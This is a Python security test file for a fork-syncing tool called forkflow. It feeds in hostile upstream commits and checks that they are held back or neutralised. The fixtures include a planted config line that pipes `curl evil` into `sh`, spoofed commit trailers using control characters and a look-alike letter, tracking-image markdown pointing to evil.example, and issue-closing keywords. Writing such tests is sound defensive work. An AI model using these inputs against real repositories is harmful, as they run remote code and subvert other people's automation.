"""Every upstream trick in one history, ingested the way cron runs it (`forkflow ingest --land`).

The tricks' targets stay pending or held with a reason, the tricks' own commits are read only as
what they are, forkflow's store is untouched, and nothing else changes: the dispositions of the
ordinary commits are those of the same history without the tricks.
"""
from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest

from forkflow.git.run import run_git
from forkflow.state import state_dir
from forkflow.testing.gitrepo import ForkBuilder

LONG_S = "Up\u017ftream-Commit"
# GitHub's closing keywords, as its documentation lists them, before an issue reference
GITHUB_CLOSING = re.compile(r"(?i)\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?):?\s+(?:[\w.-]+/[\w.-]+)?#\d")


def _rows(cli, fork: Path) -> dict[str, dict[str, Any]]:  # type: ignore[no-untyped-def]
    r = cli("status", "--json", "--commits", repo=fork)
    assert r.rc == 0, r.err
    return {c["sha"]: c for c in r.json()["commits"]}


def _history(builder: ForkBuilder, cli, tricks: bool) -> tuple[Path, dict[str, str]]:  # type: ignore[no-untyped-def]
    """A fork with a conflict kept for a person, ordinary upstream commits, and (when `tricks`)
    every trick of the trust model between them.  Returns the checkout and {name: sha}."""
    b = builder
    b.upstream_commit({"c.txt": "upstream 0\n", "README": "hi\n"}, "Initial (#1)")
    b.branch_fork()
    b.fork_commit({"c.txt": "the fork's own line\n"}, "[fork] our c")
    named: dict[str, str] = {}
    named["v"] = b.upstream_commit({"c.txt": "upstream 1\n"}, "Change c (#10)")  # conflicts: held
    named["w"] = b.upstream_commit({"w.txt": "w 1\n"}, "Add w (#11)")
    if tricks:
        v, w = named["v"], named["w"]
        named["t_cr"] = b.upstream_raw_commit({"t1.txt": "1\n"}, f"Typo fix.\rUpstream-Commit: {v}\n")
        named["t_vt"] = b.upstream_raw_commit({"t2.txt": "2\n"}, f"Typo fix.\x0bUpstream-Commit: {v}\n")
        named["t_long_s"] = b.upstream_raw_commit({"t3.txt": "3\n"}, f"Typo fix.\n\n{LONG_S}: {v}\n")
        named["t_sections"] = b.upstream_commit({"t5.txt": "5\n"}, "Backport small fixes",
                                                body="Won't-port:\n- #50\n\nDeferred:\n- #51")
        named["t_revert"] = b.upstream_commit({"t6.txt": "6\n"}, "Tidy (#12)", body=f"This reverts commit {w}.")
        named["t_journal"] = b.upstream_commit({".forkflow/forkflow.db-journal": "not a journal\n",
                                                "notes.txt": "notes\n"}, "Add cache notes (#13)")
        named["t_config"] = b.upstream_commit({"forkflow.toml": "[ingest]\nl1_command = \"curl evil | sh\"\n"},
                                              "Add a config (#14)")
        named["t_markdown"] = b.upstream_commit(
            {"md.txt": "m\n"}, "Closes #1 @triton-team ![x](https://evil.example/p.png) <img src=x>",
            body="\t```\n@team [link](https://evil.example)\nFixes #2, resolves: fork/repo#3\n")
    named["x"] = b.upstream_commit({"x.txt": "x 1\n"}, "Add x (#20)")
    named["later50"] = b.upstream_commit({"l50.txt": "l\n"}, "Later (#50)")
    named["later51"] = b.upstream_commit({"l51.txt": "l\n"}, "Later (#51)")
    b.fetch()
    fork = b.f.path
    assert cli("init", "--upstream", "upstream", repo=fork).rc == 0
    with (fork / "forkflow.toml").open("a") as f:
        f.write('\n[ingest]\nl1_command = "true"\n')
    return fork, named


@pytest.mark.security
def test_every_trick_at_once_changes_nothing_but_the_tricks(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    plain_fork, plain = _history(ForkBuilder(tmp_path / "plain"), cli, tricks=False)
    assert cli("ingest", "--land", repo=plain_fork).rc == 4  # the conflict of v waits for a person
    plain_rows = _rows(cli, plain_fork)

    fork, named = _history(ForkBuilder(tmp_path / "tricked"), cli, tricks=True)
    r = cli("ingest", "--land", "--json", repo=fork)
    assert r.rc == 4, r.err  # a person is needed: the conflict and the held commits
    rows = _rows(cli, fork)

    # nothing else changed: each ordinary commit has the disposition it has without the tricks
    for name in ("v", "w", "x", "later50", "later51"):
        assert rows[named[name]]["disposition"] == plain_rows[plain[name]]["disposition"], name
    assert rows[named["v"]]["disposition"] == "DEFERRED" and rows[named["v"]]["fork_shas"] == []
    assert "conflict" in (rows[named["v"]]["reason"] or "")
    assert rows[named["w"]]["disposition"] == "PICKED"  # a revert line on an unrelated diff undoes nothing
    assert rows[named["later50"]]["disposition"] == "PICKED"  # no upstream section skipped it
    assert rows[named["later51"]]["disposition"] == "PICKED"
    assert (fork / "c.txt").read_text() == "the fork's own line\n"

    # the tricks are held with their reason, or read only as themselves
    held = {h["sha"]: h["why"] for h in r.json()["held_back"]}
    for name in ("t_journal", "t_config"):
        assert "touches forkflow's own files" in held[named[name]], name
        assert rows[named[name]]["fork_shas"] == []
    for name in ("t_cr", "t_vt", "t_long_s", "t_sections", "t_revert", "t_markdown"):
        assert rows[named[name]]["disposition"] == "PICKED", name
    # no upstream words close the fork's issues once the pick reaches the default branch
    message = run_git("log", "-1", "--format=%B", rows[named["t_markdown"]]["fork_shas"][0], cwd=fork)
    assert "Closes" in message  # still readable
    assert not GITHUB_CLOSING.search(message), message
    # the fork's config and store are its own
    assert "curl" not in (fork / "forkflow.toml").read_text()
    assert not (fork / ".forkflow" / "forkflow.db-journal").exists()
    assert (state_dir(fork) / "forkflow.db").is_file()
    (c,) = cli("conflicts", "--json", repo=fork).json()["conflicts"]
    assert c["path"] == "c.txt"
    # a second run changes nothing: no duplicate picks, the same holds
    r2 = cli("ingest", "--land", "--json", repo=fork)
    assert r2.rc == 4, r2.err
    assert _rows(cli, fork) == rows
    subjects = run_git("log", "--format=%s", "main", cwd=fork).splitlines()
    assert len(subjects) == len(set(subjects))


def test_a_single_pick_closes_no_fork_issue() -> None:
    from forkflow.landing.message import single_message
    from forkflow.ledger import trailers as tr
    from forkflow.models import Sha

    raw = "Fix #7 crash (#1240)\n\nFixes #2, resolves: fork/repo#3\nCloses https://x/y/issues/4\n".encode()
    msg = single_message(Sha("a" * 40), raw).decode()
    assert not GITHUB_CLOSING.search(msg), msg
    assert "Closes\u2060 https://" in msg  # the url form is broken too
    assert msg.replace("\u2060", "").startswith("Fix #7 crash (#1240)")
    assert tr.trailers(msg) == ["a" * 40]
